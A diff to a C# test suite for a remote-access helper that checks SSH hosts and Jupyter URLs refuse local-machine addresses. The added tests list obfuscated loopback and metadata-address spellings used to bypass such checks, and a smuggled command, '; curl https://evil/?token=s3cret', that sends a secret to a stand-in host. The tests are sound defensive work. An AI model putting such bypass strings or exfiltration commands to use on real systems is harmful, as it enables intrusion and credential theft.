@@ -16,8 +16,8 @@ public class RemoteAccessTests
         Instance instance = Make(status, "h");
         Assert.True(RemoteAccess.HasSsh(instance));
         Assert.True(RemoteAccess.HasJupyter(instance));
-        Assert.Equal("h", RemoteAccess.Ssh(instance).Host);
-        Assert.Equal("https://h/", RemoteAccess.Jupyter(instance).Display);
+        Assert.Equal("h", RemoteAccess.Ssh(instance, allowsLocal: false).Host);
+        Assert.Equal("https://h/", RemoteAccess.Jupyter(instance, allowsLocal: false).Display);
     }
 
     [Theory]
@@ -33,7 +33,7 @@ public class RemoteAccessTests
         Instance instance = Make(status, text);
         Assert.False(RemoteAccess.HasSsh(instance));
         Assert.False(RemoteAccess.HasJupyter(instance));
-        foreach (var error in new[] { Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance)), Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance)) })
+        foreach (var error in new[] { Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance, allowsLocal: false)), Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance, allowsLocal: false)) })
         {
             Assert.Equal(ErrorIds.Conflict, error.ErrorId);
             Assert.Contains("Wait-PRInstance", error.Message, StringComparison.Ordinal);
@@ -45,10 +45,70 @@ public class RemoteAccessTests
     public void Running_WithAHostileText_IsRefused()
     {
         Instance instance = Make("running", "h\n");
-        Assert.Equal(ErrorIds.InvalidSshCommand, Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance)).ErrorId);
-        Assert.Equal(ErrorIds.InvalidJupyterUrl, Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance)).ErrorId);
+        Assert.Equal(ErrorIds.InvalidSshCommand, Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance, allowsLocal: false)).ErrorId);
+        Assert.Equal(ErrorIds.InvalidJupyterUrl, Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance, allowsLocal: false)).ErrorId);
     }
 
     [Fact]
     public void Nothing_HasNothing() => Assert.False(RemoteAccess.HasSsh(null) || RemoteAccess.HasJupyter(null));
+
+    [Theory]
+    [InlineData("127.0.0.1")]
+    [InlineData("127.255.255.254")]
+    [InlineData("0.0.0.0")]
+    [InlineData("169.254.169.254")]
+    [InlineData("224.0.0.1")]
+    [InlineData("localhost")]
+    [InlineData("LocalHost")]
+    [InlineData("x.localhost")]
+    [InlineData("ip6-localhost")]
+    [InlineData("[::1]")]
+    [InlineData("[::]")]
+    [InlineData("[::ffff:127.0.0.1]")]
+    [InlineData("[fe80::1]")]
+    [InlineData("[ff02::1]")]
+    public void AServerElsewhere_CannotNameThisMachine(string host)
+    {
+        Instance instance = Make("running", host);
+        PulseRunException ssh = Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance, allowsLocal: false));
+        Assert.Equal(ErrorIds.InvalidSshCommand, ssh.ErrorId);
+        Assert.Contains("inst_1", ssh.Message, StringComparison.Ordinal);
+        Assert.Equal(ErrorIds.InvalidJupyterUrl, Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance, allowsLocal: false)).ErrorId);
+
+        Assert.Equal(host.Trim('[', ']'), RemoteAccess.Ssh(instance, allowsLocal: true).Host);
+        Assert.NotNull(RemoteAccess.Jupyter(instance, allowsLocal: true));
+    }
+
+    // ssh's strict grammar refuses these spellings; a browser takes them all.
+    [Theory]
+    [InlineData("127.1")]
+    [InlineData("0x7f000001")]
+    [InlineData("0x7f.1")]
+    [InlineData("0177.0.0.1")]
+    [InlineData("2130706433")]
+    [InlineData("017700000001")]
+    [InlineData("localhost.")]
+    [InlineData("127.0.0.1.")]
+    [InlineData("0")]
+    [InlineData("[0:0:0:0:0:ffff:7f00:1]")]
+    [InlineData("[::127.0.0.1]")]
+    [InlineData("[64:ff9b::7f00:1]")]
+    [InlineData("[2002:7f00:1::]")]
+    [InlineData("[fe80::1%25eth0]")]
+    public void AServerElsewhere_CannotNameThisMachine_InNoSpelling(string host)
+    {
+        Instance instance = Make("running", host);
+        Assert.Equal(ErrorIds.InvalidJupyterUrl, Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance, allowsLocal: false)).ErrorId);
+        Assert.Equal(ErrorIds.InvalidSshCommand, Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance, allowsLocal: false)).ErrorId);
+    }
+
+    [Theory]
+    [InlineData("ssh -p 22 root@h; curl https://evil/?token=s3cret")]
+    [InlineData("ssh s3cret")]
+    public void ARefusedCommand_IsNotQuoted(string command)
+    {
+        PulseRunException error = Assert.Throws<PulseRunException>(() => SshCommandLine.Parse(command, "inst_1"));
+        Assert.Equal(ErrorIds.InvalidSshCommand, error.ErrorId);
+        Assert.DoesNotContain("s3cret", error.Message, StringComparison.Ordinal);
+    }
 }
